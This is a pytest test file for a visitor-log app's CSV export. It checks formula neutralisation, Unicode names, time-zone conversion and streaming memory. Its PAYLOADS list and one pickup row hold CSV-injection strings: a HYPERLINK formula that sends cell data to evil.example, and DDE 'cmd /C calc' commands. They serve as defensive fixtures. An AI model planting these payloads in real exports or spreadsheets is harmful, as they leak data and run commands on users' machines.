"""CSV exports of the logs: read back by Python's csv module as a spreadsheet would
read them, formulas made harmless, and memory that stays flat as the rows grow."""

import csv
import gc
import io
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import insert

from gatekeeper import exports, search
from gatekeeper.models import Pickup, Site, Visit

NOW = datetime(2026, 3, 10, 18, 0, tzinfo=UTC)
# Each begins a formula, or is stripped before one, in some spreadsheet.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text: str) -> list[list[str]]:
    """The rows as a spreadsheet would read the file: UTF-8 after the BOM."""
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def visit_row(site_id: int, number: int, **values) -> dict:
    arrived = NOW - timedelta(seconds=number)
    row = {
        "site_id": site_id,
        "badge_number": f"{100000 + number}",
        "visitor_name": f"Visitor {number}",
        "company": "Acme Freight",
        "visitor_type": "visitor",
        "host_name": "Grace Hopper",
        "id_type": "passport",
        "id_status": "verified",
        "id_verified_by": "Gina Guard",
        "id_verified_at": arrived,
        "arrived_at": arrived,
        "valid_until": arrived + timedelta(hours=12),
        "admission": "admitted",
        "escort_required": True,
        "escort_name": "Grace Hopper",
    }
    return {**row, **values}


def add_visits(sessions, site_id: int, rows: list[dict]) -> None:
    """Rows written straight to the table: an export reads whatever is stored,
    including values older versions or another program let in."""
    with sessions.begin() as s:
        for start in range(0, len(rows), 5000):
            s.execute(insert(Visit), rows[start : start + 5000])


def export(sessions, site_id: int, log: str = "visits") -> str:
    criteria = search.Criteria(log=log, first=NOW.date(), last=NOW.date())
    with sessions() as s:
        site = s.get(Site, site_id)
        rows = exports.rows(s, site, criteria, now=NOW, type_labels={})
        return "".join(exports.csv_text(exports.header(criteria), rows))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_made_text(payload):
    assert exports.neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Rosa Díaz", "O'Brien", "a=b", "1-2", "", "王芳", "Ana López"]
)
def test_an_ordinary_cell_is_left_as_it_is(value):
    assert exports.neutralise(value) == value


def test_an_export_reads_back_with_every_payload_neutralised(sessions, site):
    rows = [
        visit_row(site.id, number, visitor_name=payload, company=payload)
        for number, payload in enumerate(PAYLOADS)
    ]
    add_visits(sessions, site.id, rows)

    table = read_back(export(sessions, site.id))

    assert table[0][:4] == ["Record", "Date", "Arrived", "Visitor's name"]
    names = [row[3] for row in table[1:]]
    companies = [row[4] for row in table[1:]]
    assert names == ["'" + payload for payload in PAYLOADS]
    assert companies == names


def test_names_in_any_script_survive_and_times_are_the_sites(sessions, site):
    rows = [
        visit_row(site.id, 0, visitor_name="Rosa Díaz", company="Ñandú Logística"),
        visit_row(site.id, 1, visitor_name="王芳", company='Comma, Quote " Co'),
    ]
    add_visits(sessions, site.id, rows)

    table = read_back(export(sessions, site.id))

    assert [row[3] for row in table[1:]] == ["Rosa Díaz", "王芳"]
    assert table[2][4] == 'Comma, Quote " Co'
    # 18:00 UTC is 13:00 in Chicago in March (daylight time).
    assert table[1][1:3] == ["2026-03-10", "2026-03-10 13:00"]
    assert table[1][table[0].index("Photo ID type")] == "Passport"
    assert table[1][table[0].index("Escort required")] == "yes"


def test_a_pickup_export_holds_the_fields_of_the_pickup_log(sessions, site):
    with sessions.begin() as s:
        s.execute(
            insert(Pickup),
            [
                {
                    "site_id": site.id,
                    "status": "departed",
                    "reference": "BOL-1",
                    "driver_name": "=cmd|' /C calc'!A0",
                    "carrier": "Swift Lines",
                    "truck_number": "TX-4411",
                    "trailer_number": "53889",
                    "arrived_at": NOW - timedelta(hours=2),
                    "departed_at": NOW,
                    "seal_number": "UL1234567",
                    "id_type": "carrier_photo_id",
                    "trailer_rechecked": True,
                }
            ],
        )

    table = read_back(export(sessions, site.id, "pickups"))
    row = dict(zip(table[0], table[1], strict=True))

    assert row["Driver's name"] == "'=cmd|' /C calc'!A0"
    assert row["Employer"] == "Swift Lines"
    assert row["Truck number"] == "TX-4411"
    assert row["Trailer number"] == "53889"
    assert row["Seal number at departure"] == "UL1234567"
    assert row["Departed"] == "2026-03-10 13:00"
    assert row["Photo ID checked"] == "Carrier-issued photo ID"


def test_an_export_holds_only_the_range_and_the_site(sessions, site):
    yesterday = NOW - timedelta(days=1)
    add_visits(
        sessions,
        site.id,
        [
            visit_row(site.id, 0),
            visit_row(site.id, 1, arrived_at=yesterday, badge_number="999999"),
        ],
    )

    table = read_back(export(sessions, site.id))

    assert [row[3] for row in table[1:]] == ["Visitor 0"]


def _peak_while_exporting(sessions, site_id: int) -> tuple[int, int, int]:
    """Export the day's visits, dropping each chunk as a client would once sent:
    the peak memory traced above the start, the rows and the bytes produced."""
    criteria = search.Criteria(log="visits", first=date(2026, 3, 9), last=NOW.date())
    gc.collect()
    with sessions() as s:
        site = s.get(Site, site_id)
        tracemalloc.start()
        base, _ = tracemalloc.get_traced_memory()
        produced = lines = 0
        rows = exports.rows(s, site, criteria, now=NOW, type_labels={})
        for chunk in exports.csv_text(exports.header(criteria), rows):
            produced += len(chunk.encode("utf-8"))
            lines += chunk.count("\r\n")

        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()

    return peak - base, lines - 1, produced


def test_a_large_export_streams_in_bounded_memory(sessions, site):
    add_visits(sessions, site.id, [visit_row(site.id, n) for n in range(5_000)])
    # Once to warm up, so that compiling the query counts in neither measure.
    _peak_while_exporting(sessions, site.id)
    small_peak, small_rows, _ = _peak_while_exporting(sessions, site.id)

    more = [visit_row(site.id, n) for n in range(5_000, 50_000)]
    add_visits(sessions, site.id, more)
    del more
    large_peak, large_rows, large_bytes = _peak_while_exporting(sessions, site.id)

    assert (small_rows, large_rows) == (5_000, 50_000)
    # Ten times the rows, and megabytes of CSV, in the same memory: what an export
    # holds at once is a batch or two of rows and a chunk of text.
    assert large_bytes > 8_000_000
    assert large_peak < 1.5 * small_peak + 500_000, (small_peak, large_peak)
    assert large_peak < 8_000_000, large_peak


@pytest.mark.parametrize(
    "zone", ["America/Chicago", "America/St_Johns", "Europe/London", "Asia/Kolkata"]
)
def test_local_times_are_right_on_the_days_the_clocks_change(zone):
    local = exports.LocalTime(ZoneInfo(zone))
    start = datetime(2026, 1, 1)
    # Every 37 minutes through a year, so every change of offset is crossed, read
    # as SQLite gives them (text) and as PostgreSQL does (naive values).
    for step in range(0, 365 * 24 * 60, 37):
        stored = start + timedelta(minutes=step)
        expected = stored.replace(tzinfo=UTC).astimezone(ZoneInfo(zone))
        wanted = expected.replace(tzinfo=None).isoformat(" ")
        assert local.text(stored.isoformat(" ")) == wanted, stored
        assert local.text(stored) == wanted, stored
